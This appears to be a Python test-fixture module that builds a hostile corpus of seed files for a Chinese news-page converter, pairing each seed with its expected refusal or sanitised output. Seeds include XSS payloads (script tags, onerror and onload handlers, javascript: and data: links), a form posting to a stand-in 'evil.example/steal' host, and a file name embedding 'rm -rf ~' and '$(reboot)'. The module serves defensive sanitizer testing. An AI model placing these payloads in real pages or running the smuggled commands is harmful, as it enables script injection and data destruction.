"""Broken, oddly encoded and hostile seeds, each with the outcome we decided for it.

A case either fails with one line naming the file and the reason (`fails`), or becomes a
page whose article shows `shows` as text and has none of `hides` anywhere in its HTML.
Binary, huge and oddly named seeds are made here, never committed.

    python tests/hostile/corpus.py OUTDIR [--huge]   # write every seed into OUTDIR

`write_corpus(folder)` does the same for tests (tests/test_hostile.py, and any later
browser or CSP test that wants the whole hostile corpus).
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import sys
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path


@dataclass(frozen=True)
class Case:
    name: str  # the seed's file name (may hold bytes that are not UTF-8: os.fsdecode form)
    data: bytes
    fails: str = ""  # the reason the one-line error gives; "" means a page is made
    title: str = ""  # the page's title (Simplified, as the zh-hans page shows it)
    shows: tuple[str, ...] = ()  # text a reader sees in the article, exactly
    hides: tuple[str, ...] = ()  # strings that must not be in the article's HTML at all
    encoding: str = "utf-8"  # what the conversion says it read
    script: str = "hans"  # the script detected: "hans", or "tw" / "hk" / "hant"
    warns: str = ""  # part of a warning the conversion gives
    outcome: str = ""  # the decided outcome, in words
    tags: frozenset[str] = field(default_factory=frozenset)  # "huge": not built by default


# --- building blocks --------------------------------------------------------------------

TITLE = "普京访华"
PARAGRAPHS = ("俄罗斯总统普京今天抵达北京，开始为期两天的访问。", "双方将讨论能源合作。")
TEXT = f"{TITLE}\n\n作者 | 李明\n\n{PARAGRAPHS[0]}\n\n{PARAGRAPHS[1]}\n"
TRADITIONAL = (
    "普丁訪華\n\n俄羅斯總統普丁今天抵達北京，開始為期兩天的訪問。\n\n雙方將討論能源合作。\n"
)
EVIL = "evil.example"


def html_seed(body: str, title: str = "", epoch: str = "1700000000000") -> bytes:
    """A shape-3 seed: epoch line, [title](url) line, rule, HTML. By default each seed has
    its own address: seeds with one canonical URL are one story, and merged."""
    title = title or f"[HTML 标题](https://www.bbc.com/zhongwen/simp/{address(body + epoch)})"
    return f"<!--{epoch}-->\n{title}\n------\n\n{body}".encode()


def address(text: str) -> str:
    """A neutral URL path for a case (its name could hold a word a test looks for)."""
    return hashlib.sha1(text.encode("utf-8", "surrogateescape")).hexdigest()[:10]


def junk(size: int, *, nul: bool = True) -> bytes:
    data = random.Random(7).randbytes(size * 2)
    return (data if nul else data.replace(b"\x00", b""))[:size]


def text_seed(title: str, *lines: str) -> bytes:
    return (title + "\n\n" + "\n\n".join(lines) + "\n").encode()


def huge_article(size: int = 5_000_000) -> bytes:
    paragraph = "俄罗斯总统普京今天抵达北京，开始为期两天的访问，双方将讨论能源合作。" * 10
    count = size // len(paragraph.encode())
    return ("很大的文章\n\n" + f"{paragraph}\n\n" * count).encode()


# --- the cases --------------------------------------------------------------------------


def _errors() -> list[Case]:
    refused = "refused: one line naming the file and the reason; no page"
    return [
        Case("empty.txt", b"", fails="empty file", outcome=refused),
        Case("whitespace.txt", b" \n\t\r\n  \n", fails="only white space", outcome=refused),
        Case(
            "ideographic-spaces.txt",
            "\u3000\n\u3000\u3000\n".encode(),
            fails="no text: the file has no non-empty line",
            outcome=refused,
        ),
        Case("junk.bin", junk(4096), fails="a NUL byte at byte", outcome=refused),
        Case(
            "short-binary.bin",
            b"\x00\x01binary",
            fails="a NUL byte at byte 0",
            outcome="refused, though a detector reads these bytes as UTF-16",
        ),
        Case(
            "junk-without-nul.dat",
            junk(4096, nul=False),
            fails="not text in any encoding the detector knows",
            outcome=refused,
        ),
        Case(
            "nul.txt",
            TEXT.encode()[:20] + b"\x00" + TEXT.encode()[20:],
            fails="a NUL byte at byte 20: binary data or a damaged file",
            outcome="refused: a NUL byte means binary data or a file cut by a crash",
        ),
        Case(
            "gbk-junk.txt",
            "标题\n".encode() + bytes(range(0x81, 0xFF)) * 3,
            fails="not text in any encoding",
            outcome=refused,
        ),
        Case(
            "title-only.txt",
            "只有标题\n".encode(),
            fails="no article text after the title",
            outcome=refused,
        ),
        Case(
            "no-title.txt",
            ("没有标题的文章直接从正文开始，" * 20 + "\n\n第二段。\n").encode(),
            fails="no title: the first line is 300 characters long",
            outcome="refused: a first line longer than any headline is a paragraph",
        ),
        Case(
            "html-empty-title.txt",
            html_seed("<p>正文。</p>", "[](https://x.org/a)"),
            fails="line 2 has an empty title",
            outcome=refused,
        ),
        Case(
            "html-title-only.txt",
            html_seed("<div><script>x()</script></div>"),
            fails="no article text after the title",
            outcome=refused,
        ),
        Case(
            "html-no-link.txt",
            html_seed("<p>正文。</p>", "标题而已"),
            fails="line 2 is not a [title](url) link",
            outcome=refused,
        ),
        Case(
            "html-no-rule.txt",
            b"<!--1-->\n[t](https://x.org)\n<p>x</p>\n",
            fails="line 3 is not a ------ line",
            outcome=refused,
        ),
        Case(
            os.fsdecode("北京".encode("gbk") + b".txt"),
            TEXT.encode(),
            fails="the file name is not UTF-8: rename the file",
            outcome="refused: a GBK-encoded file name; the message shows its bytes",
        ),
        Case(
            "line\nbreak.txt",
            b"",
            fails="empty file",
            outcome="refused; the line break in the name is shown as \\n, one line",
        ),
    ]


def _encodings() -> list[Case]:
    same = "the same page as the UTF-8 seed"
    detected = "read, and the report says which encoding was used"
    kw = {"title": TITLE, "shows": PARAGRAPHS}
    return [
        Case("utf8.txt", TEXT.encode(), outcome="the reference page", **kw),
        Case(
            "utf8-bom.txt",
            b"\xef\xbb\xbf" + TEXT.encode(),
            encoding="utf-8-sig",
            outcome=same,
            **kw,
        ),
        Case(
            "utf16-le-bom.txt",
            b"\xff\xfe" + TEXT.encode("utf-16-le"),
            encoding="utf-16",
            outcome=same,
            **kw,
        ),
        Case(
            "utf16-be-bom.txt",
            b"\xfe\xff" + TEXT.encode("utf-16-be"),
            encoding="utf-16",
            outcome=same,
            **kw,
        ),
        Case(
            "utf16-no-bom.txt",
            TEXT.encode("utf-16-le"),
            encoding="utf_16_le",
            warns="read as utf_16_le (not UTF-8)",
            outcome=detected,
            **kw,
        ),
        Case(
            "gb18030.txt",
            (TEXT + "𠀀字。\n").encode("gb18030"),
            encoding="gb18030",
            warns="read as gb18030 (not UTF-8)",
            outcome=detected,
            **kw,
        ),
        Case(
            "gbk.txt",
            TEXT.encode("gbk"),
            encoding="gb18030",
            warns="read as gb18030 (not UTF-8)",
            outcome=detected + " (GB18030, which GBK is part of)",
            **kw,
        ),
        Case(
            "big5.txt",
            TRADITIONAL.encode("big5"),
            encoding="big5",
            warns="read as big5 (not UTF-8)",
            title=TITLE,
            script="tw",
            shows=("俄罗斯总统普京今天抵达北京",),
            outcome=detected + "; Traditional, so zh-hans shows it in Simplified",
        ),
        Case("crlf.txt", TEXT.replace("\n", "\r\n").encode(), outcome=same, **kw),
        Case("cr.txt", TEXT.replace("\n", "\r").encode(), outcome=same, **kw),
        Case(
            "mixed-encodings.txt",
            text_seed("混合编码", *[f"第{n}段：{PARAGRAPHS[0]}" for n in range(8)])
            + "这段是另一种编码。".encode("gbk")
            + b"\n",
            title="混合编码",
            shows=("第0段：", "第7段："),
            encoding="utf-8 with undecodable bytes",
            warns="some bytes are not UTF-8 and show as \ufffd",
            outcome="kept: the undecodable bytes show as \ufffd, and the report says so",
        ),
    ]


def _shapes() -> list[Case]:
    long_paragraph = "很长的段落没有标点" * 2_223 + "完"  # 20,008 characters, no punctuation
    return [
        Case(
            "long-paragraph.txt",
            text_seed("长段落", long_paragraph, "第二段。"),
            title="长段落",
            shows=(long_paragraph, "第二段。"),
            outcome="a page; the paragraph is whole",
        ),
        Case(
            "paragraph-over-the-limit.txt",
            text_seed("超长段落", "很长的段落没有标点" * 4_000, "第二段。"),
            title="超长段落",
            shows=("很长的段落没有标点" * 100, "第二段。"),
            warns="is split into 2 (at most 30,000 characters each)",
            outcome="a page; the 36,000-character paragraph is split in two, and said so",
        ),
        Case(
            "long-line-latin.txt",
            text_seed("长行", "x" * 20_000),
            title="长行",
            shows=("x" * 20_000,),
            outcome="a page; the word is whole",
        ),
        Case(
            "duplicate-title-a.txt",
            text_seed("同名文章", "第一篇的正文。"),
            title="同名文章",
            shows=("第一篇的正文。",),
            outcome="two seeds, one title: two pages",
        ),
        Case(
            "duplicate-title-b.txt",
            text_seed("同名文章", "第二篇的正文。"),
            title="同名文章",
            shows=("第二篇的正文。",),
            outcome="two seeds, one title: two pages",
        ),
        Case(
            "with spaces in name.txt",
            text_seed("名字有空格", "正文。"),
            title="名字有空格",
            shows=("正文。",),
            outcome="a page with a safe slug",
        ),
        Case(
            "普京 访华（评论）.txt",
            text_seed("中文文件名", "正文。"),
            title="中文文件名",
            shows=("正文。",),
            outcome="a page; the slug is pinyin",
        ),
        Case(
            "a;rm -rf ~ $(reboot)&`id`|x.txt",
            text_seed("命令字符", "正文。"),
            title="命令字符",
            shows=("正文。",),
            outcome="a page with a safe slug",
        ),
        Case(
            "-n --help.txt",
            text_seed("横线开头", "正文。"),
            title="横线开头",
            shows=("正文。",),
            outcome="a page; not taken for an option",
        ),
        Case(
            "<svg onload=alert(1)>.txt",
            text_seed("标签文件名", "正文。"),
            title="标签文件名",
            shows=("正文。",),
            hides=("<svg",),
            outcome="a page; the name is never markup",
        ),
        Case(
            "traditional.txt",
            TRADITIONAL.encode(),
            title=TITLE,
            script="tw",
            shows=("俄罗斯总统普京今天抵达北京",),
            outcome="detected as Traditional (Taiwan): each variant converts from it",
        ),
        Case(
            "front-matter.txt",
            "---\ntitle: 伪造的标题\nlayout: x\n---\n伪造前言的正文。\n".encode(),
            title="title: 伪造的标题",
            shows=("layout: x", "伪造前言的正文。"),
            outcome="article text: the --- lines are separators, the rest is text",
        ),
        Case(
            "huge.txt",
            huge_article(),
            title="很大的文章",
            tags=frozenset({"huge"}),
            outcome="a page of about 7,000 paragraphs",
        ),
    ]


def _dates_and_headers() -> list[Case]:
    undated = "a page without a date, and a warning"
    return [
        Case(
            "epoch-not-a-number.txt",
            html_seed("<p>正文。</p>", epoch="yesterday"),
            title="HTML 标题",
            shows=("正文。",),
            warns="is not a number: no date",
            outcome=undated,
        ),
        Case(
            "epoch-far-future.txt",
            html_seed("<p>正文。</p>", epoch="99999999999999"),
            title="HTML 标题",
            shows=("正文。",),
            warns="a date in the future",
            outcome=undated,
        ),
        Case(
            "epoch-overflow.txt",
            html_seed("<p>正文。</p>", epoch="9" * 40),
            title="HTML 标题",
            shows=("正文。",),
            warns="is beyond any date",
            outcome=undated,
        ),
        Case(
            "epoch-in-seconds.txt",
            html_seed("<p>正文。</p>", epoch="1700000000"),
            title="HTML 标题",
            shows=("正文。",),
            warns="before 1980",
            outcome=undated + " (1970: seconds read as milliseconds)",
        ),
        Case(
            "impossible-date.txt",
            text_seed("错误日期", "2024年13月45日", "正文。"),
            title="错误日期",
            shows=("2024年13月45日", "正文。"),
            warns="not a real date",
            outcome="the line stays as text, the article undated",
        ),
        Case(
            "header-javascript.txt",
            html_seed("<p>正文。</p>", "[链接标题](javascript:alert('header'))"),
            title="链接标题",
            shows=("正文。",),
            hides=("javascript:", "alert("),
            warns="ignored an original URL that is not http(s)",
            outcome="a page without the original link, and a warning",
        ),
        Case(
            "header-data-url.txt",
            html_seed("<p>正文。</p>", "[链接标题](data:text/html;base64,PHNjcmlwdD4=)"),
            title="链接标题",
            shows=("正文。",),
            hides=("data:",),
            warns="ignored an original URL that is not http(s)",
            outcome="a page without the original link, and a warning",
        ),
        Case(
            "title-markup.txt",
            html_seed(
                "<p>正文。</p>", "[标题<script>alert('title')</script>{{ x }}](https://x.org/a)"
            ),
            title="标题<script>alert('title')</script>{{ x }}",
            shows=("标题<script>alert('title')</script>{{ x }}",),
            hides=("<script>alert",),
            outcome="the title shows the markup as text, in the page and its <title>",
        ),
    ]


def _html(
    name: str,
    body: str,
    shows: tuple[str, ...],
    hides: tuple[str, ...],
    outcome: str = "the markup goes, the text stays",
) -> Case:
    return Case(name, html_seed(body), title="HTML 标题", shows=shows, hides=hides, outcome=outcome)


def _hostile_html() -> list[Case]:
    return [
        _html(
            "html-script.txt",
            "<p>脚本前<script>alert('script')</script>脚本后</p>"
            f"<script src='https://{EVIL}/x.js'></script>",
            ("脚本前脚本后",),
            ("alert(", EVIL),
        ),
        _html(
            "html-iframe.txt",
            f"<p>框架前</p><iframe src='https://{EVIL}/f'>框内</iframe>",
            ("框架前",),
            ("<iframe", EVIL, "框内"),
        ),
        _html(
            "html-object.txt",
            f"<p>对象前</p><object data='https://{EVIL}/o.swf'><embed src='https://{EVIL}/e'>"
            "</object>",
            ("对象前",),
            ("<object", "<embed", EVIL),
        ),
        _html(
            "html-style.txt",
            "<style>body{display:none}</style><p style='color:red'>样式后</p>"
            f"<link rel=stylesheet href='https://{EVIL}/s.css'>",
            ("样式后",),
            ("display:none", "color:red", EVIL),
        ),
        _html(
            "html-svg-onload.txt",
            "<svg onload=\"alert('svg')\"><text>矢量</text></svg><p>矢量后</p>",
            ("矢量后",),
            ("<svg", "onload", "alert("),
        ),
        _html(
            "html-img-onerror.txt",
            "<p>图前<img src='https://img.example/a.png' onerror=\"alert('img')\">图后</p>",
            ("图前", "图后"),
            ("onerror", "alert("),
            "the image stays (an http(s) picture), its handler goes",
        ),
        _html(
            "html-javascript-links.txt",
            "<p><a href=\"javascript:alert('a')\">坏链接一</a>、"
            "<a href=\" JaVaScRiPt:alert('b')\">坏链接二</a>、"
            "<a href=\"java&#x09;script:alert('c')\">坏链接三</a>、"
            "<a href=\"vbscript:msgbox('d')\">坏链接四</a>。</p>",
            ("坏链接一、坏链接二、坏链接三、坏链接四。",),
            ("javascript", "JaVaScRiPt", "vbscript", "alert("),
            "the link text stays as text; no link",
        ),
        _html(
            "html-data-urls.txt",
            "<p><a href='data:text/html,<script>alert(1)</script>'>数据链接</a>"
            "<img src='data:image/png;base64,AAAA'>"
            "<img src=\"data:image/svg+xml,<svg onload=alert('data')>\"></p>",
            ("数据链接",),
            ("data:", "alert(", "<img"),
            "no data: link or image; the link text stays",
        ),
        _html(
            "html-form.txt",
            f"<p>表单前</p><form action='https://{EVIL}/steal'><input name=q value='输入'>"
            "<button>提交</button>表单文字</form>",
            ("表单前",),
            ("<form", "<input", "<button", EVIL, "表单文字"),
        ),
        _html(
            "html-meta-refresh.txt",
            f"<meta http-equiv='refresh' content='0;url=https://{EVIL}/'><base href='https://{EVIL}/'>"
            "<p>刷新后</p>",
            ("刷新后",),
            ("refresh", "<base", EVIL),
        ),
        _html(
            "html-misnested.txt",
            "<p><b><i>没有闭合</b>错误嵌套</i><div>块里<p>段落</div></p><table><tr><td>表格",
            ("没有闭合", "错误嵌套", "块里", "段落", "表格"),
            ("<div>块里", "<p>段落</div>"),
            "the text stays in order; broken markup is repaired (the table is kept as one)",
        ),
        _html(
            "html-deep-nesting.txt",
            "<div>" * 3000
            + "<p>深处的段落。</p>"
            + "</div>" * 3000
            + "<p>"
            + "<b>" * 3000
            + "层层加粗"
            + "</b>" * 3000
            + "之后。</p>"
            + "<blockquote>" * 2000
            + "层层引语"
            + "</blockquote>" * 2000,
            ("深处的段落。", "层层加粗之后。", "层层引语"),
            ("****",),
            "tags nested past 64 levels are unwrapped (the text stays, paragraphs keep their"
            " breaks); it was a RecursionError that stopped the whole run",
        ),
        _html(
            "html-comments.txt",
            "<p>注释前<!-- <script>alert('comment')</script> --><!--><img src=x onerror=alert(2)>"
            "--></p><p>注释后</p>",
            ("注释前", "注释后"),
            ("alert(", "<!--", "onerror"),
        ),
        _html(
            "html-entities.txt",
            "<p>&lt;script&gt;alert('entity')&lt;/script&gt;应当显示为文字。</p>"
            "<p>&amp;lt;b&amp;gt;双重转义</p>",
            ("<script>alert('entity')</script>应当显示为文字。", "&lt;b&gt;双重转义"),
            ("<script>alert",),
            "entities that decode to tags show as text",
        ),
        _html(
            "html-noscript-template.txt",
            "<noscript><p>无脚本</p></noscript><template><p>模板</p></template><p>正文。</p>",
            ("正文。",),
            ("无脚本", "模板", "<template"),
        ),
        _html(
            "html-bidi-entities.txt",
            "<p>反&#x202E;向&#x200B;文字&#8206;。</p>"
            "<p><img src='https://img.example/b.png' alt='图&#x202E;片'></p>",
            ("反向文字。",),
            ("\u202e", "\u200b", "\u200e", "&#x202E;", "&#8238;"),
            "bidi and zero-width characters written as entities go too",
        ),
    ]


def _text_syntax() -> list[Case]:
    return [
        Case(
            "markdown-html.txt",
            text_seed(
                "Markdown 与 HTML",
                "<img src=x onerror=alert('md')> 和 <script>alert('md2')</script>",
                f"[点我](javascript:alert('mdlink')) 与 ![图](https://{EVIL}/md.png)",
                f"<https://{EVIL}/autolink> 与 [正常链接](https://news.example/ok)",
                "[引用][r] 与 [r]: javascript:alert('ref')",
                '<div markdown="1">**不是粗体**</div> 与 *不是斜体* 与 `不是代码`',
                "正文 {: onclick=\"alert('attr')\" }",
                "## 不是小标题 { #x onmouseover=alert(1) }",
                "<!-- 看得见的注释 -->",
            ),
            title="Markdown 与 HTML",
            shows=(
                "<img src=x onerror=alert('md')> 和 <script>alert('md2')</script>",
                f"<https://{EVIL}/autolink>",
                "[引用][r] 与 [r]: javascript:alert('ref')",
                '<div markdown="1">**不是粗体**</div> 与 *不是斜体* 与 `不是代码`',
                "正文 {: onclick=\"alert('attr')\" }",
                "<!-- 看得见的注释 -->",
            ),
            hides=(
                "<img",
                "<script>alert",
                'href="javascript',
                "<strong>",
                "<em>",
                "<code>",
                "<div markdown",
            ),
            outcome="everything shows as typed; only http(s) [text](url) links become links",
        ),
        Case(
            "jinja-material.txt",
            text_seed(
                "模板语法",
                "{{ config.site_name }} 和 {% include 'x.html' %} 与 {# 注释 #}",
                "{{ page.meta.title }}",
                "<!-- md:option x --> 与 <!-- md:version 1 -->",
                ':material-alert: 与 --8<-- "secret.txt"',
            ),
            title="模板语法",
            shows=(
                "{{ config.site_name }} 和 {% include 'x.html' %} 与 {# 注释 #}",
                "{{ page.meta.title }}",
                "<!-- md:option x --> 与 <!-- md:version 1 -->",
                ':material-alert: 与 --8<-- "secret.txt"',
            ),
            outcome="template and Material syntax shows literally",
        ),
        Case(
            "admonitions.txt",
            text_seed(
                "提示框语法",
                '!!! danger "危险"',
                "    缩进的内容",
                '??? note "折叠"',
                '=== "标签页"',
                "1. 不是列表",
                "- 列表项",
            ),
            title="提示框语法",
            shows=(
                '!!! danger "危险"',
                "缩进的内容",
                '??? note "折叠"',
                '=== "标签页"',
                "1. 不是列表",
            ),
            hides=("admonition", "<details", "tabbed", "<ol"),
            outcome="admonition, details and tab syntax shows literally",
        ),
        Case(
            "invisible.txt",
            "标\u202e题\u200b\n\n正\u2066文\u2069一\u200f段\x9b。\n".encode(),
            title="标题",
            shows=("正文一段。",),
            hides=("\u202e", "\u200b", "\u2066", "\u2069", "\u200f", "\x9b"),
            outcome="bidi, zero-width and C1 control characters are removed",
        ),
        Case(
            "emoji.txt",
            text_seed("表情 😀 与 𠀀", "正文 😀 𠀀 👨\u200d👩\u200d👧 🇨🇳。"),
            title="表情 😀 与 𠀀",
            shows=("正文 😀 𠀀 👨\u200d👩\u200d👧 🇨🇳。",),
            outcome="emoji, ZWJ sequences and characters beyond the BMP stay",
        ),
    ]


def _media() -> list[Case]:
    return [
        _html(
            "html-media.txt",
            "<p>视频前</p>"
            "<iframe src='https://www.youtube.com/embed/abc123' onload=\"alert('yt')\"></iframe>"
            "<video src='javascript:alert(1)' poster='javascript:alert(2)'>播放器文字</video>"
            f"<audio><source src='https://{EVIL}/a.mp3'></audio>"
            "<figure data-dz-media='video' data-dz-src='javascript:alert(3)'><figcaption>伪造"
            "</figcaption></figure><p>视频后</p>",
            ("视频前", "视频后"),
            ("<iframe", "<video", "<audio", "javascript:", "alert(", "播放器文字"),
            "players become links to where they play (http(s) only); no embed, no forged card",
        ),
    ]


def _page_and_json(case: Case) -> list[Case]:
    """The same payload as a whole saved page and as a JSON export (issue 19's new shapes):
    each must be as safe as the HTML-body shape."""
    body = case.data.decode().split("------\n", 1)[1]
    slug = case.name.removesuffix(".txt")
    url = f"https://www.bbc.com/zhongwen/simp/{address(case.name)}"
    page = (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>HTML 标题 - BBC News 中文"
        "</title><meta property='og:title' content='HTML 标题'>"
        f"<link rel=canonical href='{url}-page'>"
        "<script>alert('head')</script></head><body><nav><a href='/'>首页</a></nav>"
        f"<article><h1>HTML 标题</h1>{body}</article><footer>页脚</footer></body></html>"
    )
    export = {"title": "HTML 标题", "url": f"{url}-json", "html": body}
    shared = {"title": "HTML 标题", "shows": case.shows, "hides": case.hides}
    return [
        Case(f"page-{slug}.html", page.encode(), outcome="as " + case.name, **shared),
        Case(
            f"json-{slug}.json",
            json.dumps(export, ensure_ascii=False).encode(),
            outcome="as " + case.name,
            **shared,
        ),
    ]


def _new_shapes() -> list[Case]:
    cases = [c for case in _hostile_html() + _media() for c in _page_and_json(case)]
    evil_page = (
        "<!DOCTYPE html><html><head><meta charset='utf-8'>"
        "<meta property='og:title' content='标题&lt;script&gt;alert(1)&lt;/script&gt;'>"
        "<meta http-equiv='refresh' content='0;url=https://evil.example/'>"
        "<link rel=canonical href='javascript:alert(2)'>"
        '<script type="application/ld+json">{"@type":"NewsArticle","author":'
        '{"@type":"Person","name":"<img src=x onerror=alert(3)>"},"datePublished":"x"}'
        "</script></head><body><article><p>页面正文。</p></article></body></html>"
    )
    cases.append(
        Case(
            "page-evil-metadata.html",
            evil_page.encode(),
            title="标题<script>alert(1)</script>",
            shows=("页面正文。",),
            hides=("javascript:", "onerror", "evil.example"),
            outcome="metadata is text: a title shows its markup as text, no bad URL or author",
        )
    )
    export = {
        "title": "JSON 标题<script>alert(1)</script>",
        "url": "javascript:alert(2)",
        "author": "<b onmouseover=alert(3)>某人</b>",
        "text": "[坏链接](javascript:alert(4))\n\n<script>alert(5)</script>正文。",
    }
    cases.append(
        Case(
            "json-evil-fields.json",
            json.dumps(export, ensure_ascii=False).encode(),
            title="JSON 标题<script>alert(1)</script>",
            shows=("[坏链接](javascript:alert(4))", "<script>alert(5)</script>正文。"),
            hides=('href="javascript', "onmouseover", "<b "),
            warns="not http(s)",
            outcome="every field is text (a link to javascript: shows as the text it is); "
            "the bad URL is dropped with a warning",
        )
    )
    return cases


CASES: tuple[Case, ...] = tuple(
    _errors()
    + _encodings()
    + _shapes()
    + _dates_and_headers()
    + _hostile_html()
    + _media()
    + _text_syntax()
    + _new_shapes()
)
PAGES = tuple(case for case in CASES if not case.fails)
ERRORS = tuple(case for case in CASES if case.fails)


def write_corpus(
    folder: Path, cases: Iterable[Case] | None = None, *, huge: bool = False
) -> list[Case]:
    """Write the seeds of `cases` (default: all but the huge ones) into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    chosen = [c for c in (CASES if cases is None else cases) if huge or "huge" not in c.tags]
    for case in chosen:
        # fsencode: a name holding undecodable bytes is written with exactly those bytes.
        with open(os.path.join(os.fsencode(folder), os.fsencode(case.name)), "wb") as out:
            out.write(case.data)
    return chosen


if __name__ == "__main__":
    written = write_corpus(Path(sys.argv[1]), huge="--huge" in sys.argv)
    print(f"{len(written)} seeds written to {sys.argv[1]}")
